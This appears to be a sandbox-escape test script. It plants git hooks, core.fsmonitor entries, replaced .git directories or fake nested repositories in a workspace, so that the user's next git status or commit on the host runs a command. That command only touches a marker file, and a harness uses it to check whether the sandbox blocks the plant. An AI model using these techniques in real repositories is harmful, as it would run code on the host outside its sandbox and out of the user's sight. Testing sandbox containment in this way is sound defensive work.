"""Plants in a workspace what git on the host runs: the user's next `git status` or `git
commit` there runs it, outside the sandbox. Writes the files directly (the sandbox needs no
git). The host judges by whether the planted command wrote MARKER.

usage: git_plant.py WORKSPACE MARKER MODE
  hook       a pre-commit hook in .git/hooks
  fsmonitor  core.fsmonitor in .git/config (run by every `git status`)
  replace    .git renamed away, a copy with core.fsmonitor put in its place
  nested     the submodule at vendor/lib: its directory moved away, a repository of the
             program's with core.fsmonitor put in its place
  plant      a new repository with core.fsmonitor in a workspace that had none
"""
import os
import shutil
import sys

from _common import blocked, done, errname

workspace, marker, mode = sys.argv[1], sys.argv[2], sys.argv[3]
COMMAND = f"touch {marker}; false"
FSMONITOR = f"[core]\n\tfsmonitor = {COMMAND}\n"


def append(path, text):
    with open(path, "a") as f:
        f.write(text)


def hook(git):
    path = os.path.join(git, "hooks", "pre-commit")
    with open(path, "w") as f:
        f.write(f"#!/bin/sh\n{COMMAND}\nexit 0\n")
    os.chmod(path, 0o755)


def replace(repo):
    git = os.path.join(repo, ".git")
    os.rename(git, git + "-old")
    shutil.copytree(git + "-old", git, symlinks=True)
    append(os.path.join(git, "config"), FSMONITOR)


def new_repository(repo):
    git = os.path.join(repo, ".git")
    for sub in ("objects", "refs/heads", "hooks"):
        os.makedirs(os.path.join(git, sub), exist_ok=True)
    with open(os.path.join(git, "HEAD"), "w") as f:
        f.write("ref: refs/heads/main\n")
    with open(os.path.join(git, "config"), "w") as f:
        f.write("[core]\n\trepositoryformatversion = 0\n\tbare = false\n")
        f.write(f"\tfsmonitor = {COMMAND}\n")


def nested(repo):
    vendor = os.path.join(repo, "vendor")
    os.rename(vendor, vendor + "-old")
    os.makedirs(os.path.join(vendor, "lib"))
    new_repository(os.path.join(vendor, "lib"))


ATTACKS = {
    "hook": lambda: hook(os.path.join(workspace, ".git")),
    "fsmonitor": lambda: append(os.path.join(workspace, ".git", "config"), FSMONITOR),
    "replace": lambda: replace(workspace),
    "nested": lambda: nested(workspace),
    "plant": lambda: new_repository(workspace),
}

try:
    ATTACKS[mode]()
    print(f"planted ({mode})", flush=True)
except OSError as e:
    blocked(f"{mode}: {errname(e.errno)}")
done()
